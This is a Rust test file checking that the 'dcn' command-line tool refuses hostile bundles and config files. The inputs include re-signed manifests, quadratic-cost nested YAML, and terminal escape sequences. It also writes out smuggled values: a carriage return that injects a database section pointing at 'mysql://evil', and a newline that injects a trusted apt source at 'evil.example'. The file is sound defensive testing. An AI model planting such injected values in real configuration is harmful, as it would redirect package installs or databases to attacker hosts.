//! Hostile input to dcn's readers, through the real binary as an operator
//! runs it (issue 12): bundles whose manifest is signed by a self-made CA
//! (what anyone can do when `--ca-pin` is not given) with times past year
//! 9999, nesting that costs libyaml quadratic time, escape sequences; and
//! config files with the same nesting, a bare CR in INI text, a newline in
//! `packages.source`. Each must be refused (or shown escaped) with a clear
//! message, exit 1 rather than panic, in bounded time, and leave the test's
//! private folder as it was.

use flate2::Compression;
use flate2::write::GzEncoder;
use std::io::{Read, Write};
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::time::{Duration, Instant};

#[path = "support/bundle.rs"]
mod bundle_support;
use bundle_support::write_lab_bundle;

fn dcn(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_dcn"))
        .args(args)
        .output()
        .unwrap()
}

fn stderr(o: &Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

/// Refused as a user error: exit code 1, not a panic (101) or an abort.
fn assert_refused(o: &Output, parts: &[&str]) {
    let err = stderr(o);
    assert_eq!(o.status.code(), Some(1), "{err}");
    assert!(!err.contains("panicked"), "{err}");
    for p in parts {
        assert!(err.contains(p), "expected {p:?} in:\n{err}");
    }
}

/// Every file under `dir` with its bytes.
fn tree(dir: &Path) -> Vec<(PathBuf, Vec<u8>)> {
    let mut out: Vec<_> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| {
            let p = e.unwrap().path();
            let bytes = std::fs::read(&p).unwrap();
            (p, bytes)
        })
        .collect();
    out.sort();
    out
}

/// A lab bundle at `dir/name` whose manifest text is changed by `fix` and
/// signed again by `ca`, with every other member kept: what anyone with a
/// self-made CA can produce.
fn tampered(
    dir: &Path,
    name: &str,
    ca: &dcn::pki::CertificateAuthority,
    fix: impl FnOnce(String) -> String,
) -> PathBuf {
    let path = write_lab_bundle(dir, name, 3600, ca);
    let mut tar = Vec::new();
    flate2::read::GzDecoder::new(std::fs::File::open(&path).unwrap())
        .read_to_end(&mut tar)
        .unwrap();
    let mut members: Vec<(String, Vec<u8>)> = tar::Archive::new(tar.as_slice())
        .entries()
        .unwrap()
        .map(|e| {
            let mut e = e.unwrap();
            let name = e.path().unwrap().to_string_lossy().into_owned();
            let mut data = Vec::new();
            e.read_to_end(&mut data).unwrap();
            (name, data)
        })
        .collect();
    let yaml = fix(String::from_utf8(members[0].1.clone()).unwrap());
    let sig = ca.sign(yaml.as_bytes()).unwrap();
    members[0].1 = yaml.into_bytes();
    use base64::Engine;
    members[3].1 = format!(
        "{}\n",
        base64::engine::general_purpose::STANDARD.encode(sig)
    )
    .into_bytes();
    let mut builder = tar::Builder::new(Vec::new());
    for (name, data) in &members {
        let mut h = tar::Header::new_ustar();
        h.set_path(name).unwrap();
        h.set_size(data.len() as u64);
        h.set_mode(0o600);
        h.set_cksum();
        builder.append(&h, data.as_slice()).unwrap();
    }
    let mut gz = GzEncoder::new(Vec::new(), Compression::default());
    gz.write_all(&builder.into_inner().unwrap()).unwrap();
    std::fs::write(&path, gz.finish().unwrap()).unwrap();
    path
}

fn replace_line(yaml: &str, key: &str, line: &str) -> String {
    yaml.lines()
        .map(|l| if l.starts_with(key) { line } else { l })
        .collect::<Vec<_>>()
        .join("\n")
        + "\n"
}

#[test]
fn times_past_9999_in_utc_are_refused_by_inspect_and_verify_not_panicked_on() {
    let dir = tempfile::tempdir().unwrap();
    let ca = dcn::pki::CertificateAuthority::generate("self-made CA").unwrap();
    let cases = [
        ("createdAt:", "createdAt: 0000-01-01T00:00:00+23:59"),
        ("notAfter:", "notAfter: 9999-12-31T23:59:59-23:59"),
    ];
    for (i, (key, line)) in cases.into_iter().enumerate() {
        let b = tampered(dir.path(), &format!("b{i}.tar.gz"), &ca, |y| {
            replace_line(&y, key, line)
        });
        let before = tree(dir.path());
        let b = b.to_str().unwrap();
        for args in [vec!["bundle", "inspect", b], vec!["bundle", "verify", b]] {
            let out = dcn(&args);
            assert_refused(
                &out,
                &[
                    "manifest is invalid",
                    key,
                    "outside the times dcn accepts (1970-01-01T00:00:00Z to 9999-12-31T23:59:59Z)",
                ],
            );
        }
        assert_eq!(tree(dir.path()), before);
    }
}

#[test]
fn deeply_nested_yaml_is_refused_in_bounded_time_by_inspect_and_config_validate() {
    let dir = tempfile::tempdir().unwrap();
    let ca = dcn::pki::CertificateAuthority::generate("self-made CA").unwrap();
    // 200 KiB of '[' compresses to a few hundred bytes; libyaml alone took
    // about a minute over it.
    let bundle = tampered(dir.path(), "deep.tar.gz", &ca, |y| {
        replace_line(&y, "site:", &format!("site: {}", "[".repeat(200 * 1024)))
    });
    assert!(std::fs::metadata(&bundle).unwrap().len() < 4096);
    let config = dir.path().join("site.yaml");
    std::fs::write(
        &config,
        format!(
            "apiVersion: dcn/v1alpha1\nkind: StandaloneConfig\nzones: {}\n",
            "{a: ".repeat(50 * 1024)
        ),
    )
    .unwrap();
    let before = tree(dir.path());
    for (args, location) in [
        (
            vec!["bundle", "inspect", bundle.to_str().unwrap()],
            "manifest.yaml:2:",
        ),
        (
            vec!["config", "validate", config.to_str().unwrap()],
            "site.yaml:3:",
        ),
    ] {
        let started = Instant::now();
        let out = dcn(&args);
        assert!(
            started.elapsed() < Duration::from_secs(5),
            "{:?}",
            started.elapsed()
        );
        assert_refused(&out, &[location, "nested more than 32 levels deep"]);
    }
    assert_eq!(tree(dir.path()), before);
}

#[test]
fn export_refuses_an_absurd_ttl_before_anything_else() {
    let dir = tempfile::tempdir().unwrap();
    let out_file = dir.path().join("edge1.tar.gz");
    for ttl in ["8000y", "0s", "400d"] {
        let out = dcn(&[
            "bundle",
            "export",
            "--site",
            "edge1",
            "--ttl",
            ttl,
            "-o",
            out_file.to_str().unwrap(),
        ]);
        // Refused for the TTL, not for this host lacking a control plane:
        // the check comes before anything is read, created or written.
        assert_refused(&out, &["--ttl ", "outside the allowed range", "1s to 365d"]);
    }
    assert!(tree(dir.path()).is_empty());
}

/// `config validate` on `body` after the header: refused with `parts`,
/// nothing on stdout, the folder unchanged.
fn config_refused(body: &str, parts: &[&str]) {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("site.yaml");
    std::fs::write(
        &file,
        format!("apiVersion: dcn/v1alpha1\nkind: StandaloneConfig\n{body}"),
    )
    .unwrap();
    let before = tree(dir.path());
    let out = dcn(&["config", "validate", file.to_str().unwrap()]);
    assert_refused(&out, parts);
    assert!(out.stdout.is_empty());
    assert_eq!(tree(dir.path()), before);
}

#[test]
fn config_validate_refuses_a_bare_cr_in_custom_service_config() {
    // oslo.config reads a [database] section here; dcn saw one option.
    config_refused(
        "services:\n  nova:\n    customServiceConfig: \"[DEFAULT]\\ndebug = true\\r[database]\\rconnection = mysql://evil\\n\"\n",
        &[
            "site.yaml:5:",
            "services.nova.customServiceConfig",
            "line 2: a carriage return (\\r) not followed by a line feed",
        ],
    );
    config_refused(
        "services:\n  nova:\n    customServiceConfig: \"[DEFAULT]\\ndebug = true\\u2028[database]\\n\"\n",
        &["services.nova.customServiceConfig", "U+2028"],
    );
}

#[test]
fn config_validate_refuses_a_newline_in_packages_source() {
    config_refused(
        "packages:\n  source: \"local:/srv/repo ./\\ndeb [trusted=yes] http://evil.example/ ./\"\n",
        &[
            "site.yaml:4:",
            "packages.source",
            "written into an apt sources line",
        ],
    );
}

#[test]
fn escape_sequences_from_a_bundle_or_config_reach_the_terminal_escaped() {
    let dir = tempfile::tempdir().unwrap();
    let ca = dcn::pki::CertificateAuthority::generate("\x1b[2J\x1b]0;pwned\x07evil").unwrap();
    let bundle = write_lab_bundle(dir.path(), "evil.tar.gz", 3600, &ca);
    let out = dcn(&["bundle", "inspect", bundle.to_str().unwrap()]);
    assert!(out.status.success(), "{}", stderr(&out));
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(!text.contains('\x1b') && !text.contains('\x07'), "{text:?}");
    assert!(
        text.contains("CN=\\u{1b}[2J\\u{1b}]0;pwned\\u{7}evil"),
        "{text}"
    );

    // A config key that is an escape sequence, quoted back in the error.
    let file = dir.path().join("site.yaml");
    std::fs::write(
        &file,
        "apiVersion: dcn/v1alpha1\nkind: StandaloneConfig\n\"\\e[2Jzones\": {}\n",
    )
    .unwrap();
    let out = dcn(&["config", "validate", file.to_str().unwrap()]);
    assert_refused(&out, &["unknown field `\\u{1b}[2Jzones`"]);
    assert!(!stderr(&out).contains('\x1b'), "{:?}", stderr(&out));
}
